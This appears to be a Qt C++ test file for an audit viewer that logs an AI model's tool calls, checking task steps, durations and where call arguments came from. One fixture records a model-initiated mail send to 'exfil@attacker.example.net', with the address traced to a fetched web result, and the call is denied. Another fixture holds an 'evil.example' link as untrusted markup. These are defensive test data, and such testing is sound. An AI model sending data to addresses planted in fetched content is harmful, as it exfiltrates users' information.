// The audit view's detail pane for a call the server ran as a task (issue #18): a Task section
// with the task's id and its life, one line per step ("10:31:02 working — Researching…"), read
// from a real store through the audit window; the server's words shown as text, never markup.

#include "researchcalls.h"

#include "ui/audit/auditdetailpane.h"
#include "core/audit/auditlog.h"
#include "ui/audit/audittablemodel.h"
#include "ui/audit/auditwindow.h"

#include <QGroupBox>
#include <QLabel>
#include <QListWidget>
#include <QSignalSpy>
#include <QTableView>
#include <QTemporaryDir>
#include <QTest>

using namespace Qt::StringLiterals;
using namespace Toolgate;
using namespace Toolgate::TestSupport::ResearchCalls;

namespace {

QString clock(int second)
{
    return step(second, Task::Status::Working).at.toLocalTime().toString(u"HH:mm:ss"_s);
}

} // namespace

class tst_AuditDetailPane final : public QObject
{
    Q_OBJECT
private slots:
    void showsTheTaskSection();
    void showsWhereArgumentsCameFrom();
    void namesWhatEachDurationMeasures();
};

// A collection run's call took 8 ms from start to finish and 0 ms at the server (the Duration column):
// the record says which is which instead of "(0 ms)" after a line that spans 8 ms (issue 34).
void tst_AuditDetailPane::namesWhatEachDurationMeasures()
{
    AuditRecord record;
    record.id = 4;
    record.type = AuditRecordType::ToolCall;
    record.serverName = u"demo"_s;
    record.name = u"weather"_s;
    record.startedAt = QDateTime(QDate(2026, 11, 30), QTime(5, 9, 9, 100));
    record.finishedAt = record.startedAt.addMSecs(8);
    record.durationMs = 0;
    record.outcome = AuditOutcome::Succeeded;
    AuditDetailPane pane;
    pane.setRecord(record);
    const QString summary = pane.summary()->text();
    QVERIFY2(summary.contains(u"8 ms in all, of which the server took 0 ms (the Duration)"_s), qPrintable(summary));
}

void tst_AuditDetailPane::showsWhereArgumentsCameFrom()
{
    QTemporaryDir dir;
    QVERIFY(dir.isValid());
    const QString path = dir.filePath(u"audit.sqlite"_s);
    {
        AuditLog log(AuditLog::Options{.path = path});
        AuditToolCallIntent intent;
        intent.server = {u"mail"_s, u"mail-server"_s, {}};
        intent.tool = u"send"_s;
        intent.arguments = {{u"to"_s, u"exfil@attacker.example.net"_s}};
        intent.initiator = CallInitiator::Model;
        intent.conversationId = u"c-7"_s;
        intent.conversationTitle = u"Mail the <i>report</i>"_s;
        intent.argumentOrigins = {ArgumentOrigin{u"/to"_s, u"exfil@attacker.example.net"_s, ArgumentOrigin::SourceKind::ToolResult,
                                                 u"web"_s, u"<b>fetch</b>"_s, 12}};
        const auto ticket = log.recordIntent(intent);
        log.recordDecision(ticket, ApprovalDecision::deny(u"no"_s));
        log.recordOutcome(ticket, makeOutcome(ToolCallOutcome::Kind::Denied));
        QVERIFY(log.waitForWrites());
    }
    AuditWindow view(path);
    view.resize(1000, 700);
    view.show();
    QVERIFY(QTest::qWaitForWindowExposed(&view));
    AuditTableModel *model = view.model();
    QTRY_VERIFY_WITH_TIMEOUT(!model->isLoading() && model->rowCount() == 1, 10000);
    QSignalSpy recordShown(&view, &AuditWindow::recordShown);
    view.table()->setCurrentIndex(model->index(0, 0));
    QVERIFY(recordShown.wait(10000));
    const QString summary = view.detailPane()->summary()->text();
    QVERIFY2(summary.contains(u"/to (“exfil@attacker.example.net”): from &lt;b&gt;fetch&lt;/b&gt; on server «web», call #12"_s),
             qPrintable(summary));
    // The conversation the model asked in, its title as plain text.
    QVERIFY2(summary.contains(u"«Mail the &lt;i&gt;report&lt;/i&gt;» (id c-7)"_s), qPrintable(summary));
}

void tst_AuditDetailPane::showsTheTaskSection()
{
    QTemporaryDir dir;
    QVERIFY(dir.isValid());
    const QString path = dir.filePath(u"audit.sqlite"_s);
    const QString markup = u"<b>Found</b> <a href=\"http://evil.example\">3 sources</a>"_s;
    {
        AuditLog log(AuditLog::Options{.path = path});
        QVERIFY(writePlainCallThenTask(log, u"task-<i>9</i>"_s,
                                       {step(2, Task::Status::Working, u"Researching…"_s),
                                        step(5, Task::Status::InputRequired, u"Which year?"_s), step(7, Task::Status::Working, markup),
                                        step(9, Task::Status::Completed)},
                                       makeOutcome(ToolCallOutcome::Kind::Succeeded)));
    }

    AuditWindow view(path);
    view.resize(1000, 700);
    view.show();
    QVERIFY(QTest::qWaitForWindowExposed(&view));
    AuditTableModel *model = view.model();
    QTRY_VERIFY_WITH_TIMEOUT(!model->isLoading() && model->rowCount() == 2, 10000);
    QSignalSpy recordShown(&view, &AuditWindow::recordShown);
    AuditDetailPane *detail = view.detailPane();

    // The task: its id and each step, in order, with the time, the status in words and the server's words.
    view.table()->setCurrentIndex(model->index(model->rowOfRecord(2), 0));
    QVERIFY(recordShown.wait(10000));
    QCOMPARE(detail->record().id, 2);
    QVERIFY(detail->taskSection()->isVisible());
    QCOMPARE(detail->taskSection()->title(), u"Task"_s);
    QCOMPARE(detail->taskIdLabel()->text(), u"task-<i>9</i>"_s);
    QCOMPARE(detail->taskIdLabel()->textFormat(), Qt::PlainText);
    QListWidget *life = detail->taskLife();
    QStringList lines;
    for (int i = 0; i < life->count(); ++i)
        lines.append(life->item(i)->text());
    const QStringList expected{
        clock(2) + u" working — Researching…"_s,
        clock(5) + u" waiting for input — Which year?"_s,
        clock(7) + u" working — "_s + markup,
        clock(9) + u" completed"_s,
    };
    QCOMPARE(lines, expected);
    // The tooltip has the date too.
    QVERIFY(life->item(0)->toolTip().startsWith(step(2, Task::Status::Working).at.toLocalTime().toString(u"yyyy-MM-dd"_s)));
    // Markup in the server's words is not rendered: the item's text is its text, and the summary
    // (rich text built from escaped parts) does not carry it.
    QVERIFY(!detail->summary()->text().contains(u"<a href"_s));

    // A call that was no task has no Task section.
    view.table()->setCurrentIndex(model->index(model->rowOfRecord(1), 0));
    QVERIFY(recordShown.wait(10000));
    QCOMPARE(detail->record().id, 1);
    QVERIFY(!detail->taskSection()->isVisible());
    QCOMPARE(detail->taskLife()->count(), 0);

    // Nothing selected: none either.
    detail->showPlaceholder(u"nothing"_s);
    QVERIFY(!detail->taskSection()->isVisible());
}

QTEST_MAIN(tst_AuditDetailPane)
#include "tst_auditdetailpane.moc"
